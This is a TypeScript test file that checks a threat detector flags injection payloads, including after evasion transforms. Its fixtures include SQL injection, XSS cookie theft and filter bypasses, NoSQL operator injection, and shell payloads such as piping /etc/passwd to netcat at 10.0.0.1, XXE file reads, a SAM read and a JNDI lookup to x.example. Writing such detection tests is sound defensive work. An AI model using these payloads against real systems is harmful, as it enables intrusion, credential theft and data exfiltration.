import { describe, expect, it } from "vitest";
import { detectThreat } from "../../../lib/threats/detect-threat.ts";
import type { ThreatType } from "../../../lib/threats/threat-type.ts";
import { EVASIONS } from "../../../training/generate/evasions.ts";

const ATTACKS: Readonly<Record<ThreatType, string>> = {
  sql_injection: "1' UNION SELECT username, password FROM users -- ",
  xss: "<img src=x onerror=alert(document.cookie)>",
  nosql_injection: '{"username": {"$ne": null}, "password": {"$gt": ""}}',
  script_injection: "; cat /etc/passwd | nc 10.0.0.1 4444",
};

describe("an attack is seen behind", () => {
  for (const { name, apply } of EVASIONS) {
    it.each(Object.entries(ATTACKS))(`${name}: %s`, (_, attack) => {
      expect(detectThreat(undefined, apply(attack)).threat).toBe(true);
    });
  }
});

/** Tricks of one interpreter each. */
const TRICKS: readonly (readonly [ThreatType, string, string])[] = [
  ["sql_injection", "versioned comments", "-1 /*!50000union*/ /*!50000select*/ 1,2,3"],
  ["sql_injection", "scientific notation before UNION", "1e0union select 1"],
  ["sql_injection", "an ODBC brace", "{ts '2020'} or 1=1"],
  ["sql_injection", "no spaces at all", "'or'1'='1"],
  ["sql_injection", "parentheses for spaces", "1'union(select(1),(2))#"],
  ["sql_injection", "look-alike quotes", "\u02bc or 1=1 -- "],
  ["xss", "an entity inside the scheme", '<a href="java&#x0A;script:alert(1)">x</a>'],
  ["xss", "nested tags", "<scr<script>ipt>alert(1)</scr</script>ipt>"],
  ["xss", "a slash for a space", "<svg/onload=confirm(1)>"],
  ["xss", "a scheme broken by tabs", '<a href="j&Tab;ava&NewLine;script&colon;x()">x</a>'],
  ["xss", "a name put together", 'top["al"+"ert"](1)'],
  ["xss", "signs after a handler", "<body onload!#$%&()*~+-_.,:;?@[/|\\]^`=confirm(1)>"],
  ["xss", "brackets of US-ASCII", "\u00bcscript\u00bealert(1)\u00bc/script\u00be"],
  ["xss", "a link escaped without need", "&lt;a href=&#34;http&#58;//evil&#46;example&#34;&gt;"],
  ["xss", "a function handed over", "[1].find(alert)"],
  ["xss", "a function made from text", 'Function("ale"+"rt(1)")()'],
  ["xss", "a host written as a number", '<a href="http://3221225985/">x</a>'],
  ["sql_injection", "an operator in place of AND", "x' like 'x"],
  ["sql_injection", "characters by number", "chr(65)||chr(66)||chr(67)"],
  ["sql_injection", "a call only databases have", "extractvalue(1,concat(0x7e,version()))"],
  ["xss", "a style sheet from elsewhere", "<style>@import 'https://x.example/a.css';</style>"],
  ["xss", "a binding of a style", "<style>p{-moz-binding:url(//x.example/a.xml#b)}</style>"],
  ["xss", "a redirect", '<meta http-equiv="refresh" content="0;url=//x.example">'],
  ["xss", "a prototype changed", "'a'.constructor.prototype.charAt=[].join"],
  ["script_injection", "a path and a separator", "/usr/bin/id;"],
  ["sql_injection", "a condition as argument", "1,iif(41=41,1,1/0)"],
  ["script_injection", "base64 of a few characters", Buffer.from("; id").toString("base64")],
  ["script_injection", "a command quoted in pieces", ";w'h'o'am'i"],
  ["script_injection", "a formula that starts a program", "=cmd|' /C calc'!A0"],
  [
    "script_injection",
    "an external entity",
    '<!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]><x>&y;</x>',
  ],
  ["script_injection", "a slice of a variable", "ping%CommonProgramFiles:~10,-18%127.0.0.1"],
  ["script_injection", "a Windows variable in a path", "; type %SYSTEMROOT%\\repair\\SAM"],
  ["xss", "UTF-7", "+ADw-script+AD4-alert(1)+ADw-/script+AD4-"],
  ["xss", "named entities", "<a href=javascript&colon;alert&lpar;1&rpar;>x</a>"],
  ["nosql_injection", "an escaped dollar sign", '{"\\u0024ne": 1}'],
  ["nosql_injection", "a repeated member", '{"a":{"$ne":1},"a":"x"}'],
  ["script_injection", "IFS for spaces", ";cat$" + "{IFS}/etc/passwd"],
  ["script_injection", "quotes inside a command", "; c''at /etc/passwd"],
  ["script_injection", "a backslash inside a command", "; c\\at /etc/passwd"],
  ["script_injection", "wildcards", "/???/c?t /etc/passwd"],
  ["script_injection", "nested lookups", "$" + "{$" + "{::-j}ndi:ldap://x.example/a}"],
  [
    "script_injection",
    "base64 in base64",
    Buffer.from(Buffer.from("; cat /etc/passwd").toString("base64")).toString("base64"),
  ],
];

describe("tricks of one interpreter are seen through", () => {
  it.each(TRICKS)("%s: %s", (_, __, text) => {
    expect(detectThreat(undefined, text).threat).toBe(true);
  });
});
